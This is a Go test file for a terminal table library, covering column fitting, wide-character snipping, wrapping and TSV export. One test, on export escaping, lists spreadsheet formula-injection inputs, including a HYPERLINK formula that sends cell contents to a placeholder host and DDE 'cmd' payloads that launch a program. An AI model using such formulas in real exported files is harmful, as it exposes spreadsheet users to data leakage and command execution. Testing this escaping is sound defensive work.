package term

import (
	"bytes"
	"slices"
	"strings"
	"testing"
)

func TestFitColumns(t *testing.T) {
	l := List{
		Columns: []Column{{Name: "#"}, {Name: "name", Shrink: 1, Min: 10}, {Name: "site", Shrink: 2, Min: 6}, {Name: "quality"}},
		Rows:    [][]string{{"1", strings.Repeat("n", 40), strings.Repeat("s", 20), "1080p"}},
	}
	for _, c := range []struct {
		width int
		want  []int
	}{
		{200, []int{1, 40, 20, 7}},
		{74, []int{1, 40, 20, 7}},
		{70, []int{1, 36, 20, 7}},
		{44, []int{1, 10, 20, 7}},
		{40, []int{1, 10, 16, 7}},
		{30, []int{1, 10, 6, 7}},
		{26, []int{1, 6, 6, 7}},
		{22, []int{1, 4, 4, 7}},
		{5, []int{1, 4, 4, 7}},
	} {
		if got := fitColumns(l, c.width); !slices.Equal(got, c.want) {
			t.Errorf("width %d: %v, want %v", c.width, got, c.want)
		}
	}
}

func TestWriteTable_wideCharacters(t *testing.T) {
	l := List{
		Columns: []Column{{Name: "name", Shrink: 1, Min: 4}, {Name: "n", Right: true}},
		Rows:    [][]string{{"钟表匠的风筝", "7"}, {"Kite", "12"}},
		Paint:   func(_, _ int, cell string) string { return Paint(ColourGood, cell) },
	}
	var b bytes.Buffer
	if err := writeTable(&b, l, 12); err != nil {
		t.Fatal(err)
	}
	got := strings.NewReplacer("\x1b[32m", "", "\x1b[0m", "").Replace(b.String())
	want := "NAME      N\n钟表匠…   7\nKite     12\n"
	if got != want {
		t.Errorf("got\n%s\nwant\n%s", got, want)
	}
}

// A column that wraps gives way first, and loses nothing.
func TestWriteTable_wraps(t *testing.T) {
	l := List{
		Columns: []Column{{Name: "name", Shrink: 1, Min: 4}, {Name: "why", Wrap: true, Min: 12}, {Name: "n", Right: true}},
		Rows:    [][]string{{"Kite by night", "the best of the list", "7"}, {"Kite", "", "12"}},
		Paint:   func(_, _ int, cell string) string { return Paint(ColourGood, cell) },
	}
	for width, want := range map[int]string{
		40: "NAME           WHY                    N\nKite by night  the best of the list   7\nKite                                 12\n",
		32: "NAME           WHY           N\nKite by night  the best of   7\n               the list\nKite                        12\n",
		25: "NAME     WHY           N\nKite b…  the best of   7\n         the list\nKite                  12\n",
		15: "NAME  WHY    N\nKit…  the    7\n      best\n      of\n      the\n      list\nKite        12\n",
	} {
		var b bytes.Buffer
		if err := writeTable(&b, l, width); err != nil {
			t.Fatal(err)
		}
		if got := strings.NewReplacer("\x1b[32m", "", "\x1b[0m", "").Replace(b.String()); got != want {
			t.Errorf("in %d columns\n%s\nwant\n%s", width, got, want)
		}
	}
}

// TestSnip takes nothing apart that is joined to one character.
func TestSnip(t *testing.T) {
	for _, c := range []struct {
		s     string
		width int
		want  string
	}{
		{"影视大全", 8, "影视大全"},
		{"影视大全", 7, "影视大…"},
		{"👨\u200d👩\u200d👧影视大全", 4, "…"},
		{"a👨\u200d👩\u200d👧影视大全", 6, "a…"},
		{"abc…", 3, "ab…"},
		{"a", 0, ""},
	} {
		if got := Snip(c.s, c.width); got != c.want {
			t.Errorf("Snip(%q, %d) = %q, want %q", c.s, c.width, got, c.want)
		}
	}
}

func TestWriteTSV(t *testing.T) {
	var b bytes.Buffer
	l := List{Columns: []Column{{Name: "last error"}, {Name: "n"}}, Rows: [][]string{{"a\tb\nc\rd", "1"}}}
	if err := l.WriteTSV(&b); err != nil {
		t.Fatal(err)
	}
	if want := "last_error\tn\na b c d\t1\n"; b.String() != want {
		t.Errorf("got %q, want %q", b.String(), want)
	}
}

// TestWriteTSV_formulas has free text that a spreadsheet would take for a formula
// written as text, and ids, numbers and what is text anyway as it is.
func TestWriteTSV_formulas(t *testing.T) {
	tests := []struct{ cell, text string }{
		{`=HYPERLINK("http://h.example/?"&A1)`, `'=HYPERLINK("http://h.example/?"&A1)`},
		{"=cmd|'/C calc'!A0", "'=cmd|'/C calc'!A0"},
		{"+1+cmd|'/C calc'!A0", "'+1+cmd|'/C calc'!A0"},
		{"@SUM(1)", "'@SUM(1)"},
		{"-2+3", "'-2+3"},
		{"- a film", "'- a film"},
		{"\t=1+1", " =1+1"},
		{"＝1+1", "'＝1+1"},
		{"-5", "-5"},
		{"+1.5", "+1.5"},
		{"a=b", "a=b"},
		{"'=1", "'=1"},
		{"", ""},
	}
	for _, tt := range tests {
		var b bytes.Buffer
		l := List{Columns: []Column{{Name: "text"}, {Name: "id", Exact: true}, {Name: "number", Right: true}}, Rows: [][]string{{tt.cell, tt.cell, tt.cell}}}
		if err := l.WriteTSV(&b); err != nil {
			t.Fatal(err)
		}
		same := strings.ReplaceAll(tt.cell, "\t", " ")
		if want := "text\tid\tnumber\n" + tt.text + "\t" + same + "\t" + same + "\n"; b.String() != want {
			t.Errorf("%q: got %q, want %q", tt.cell, b.String(), want)
		}
	}
}
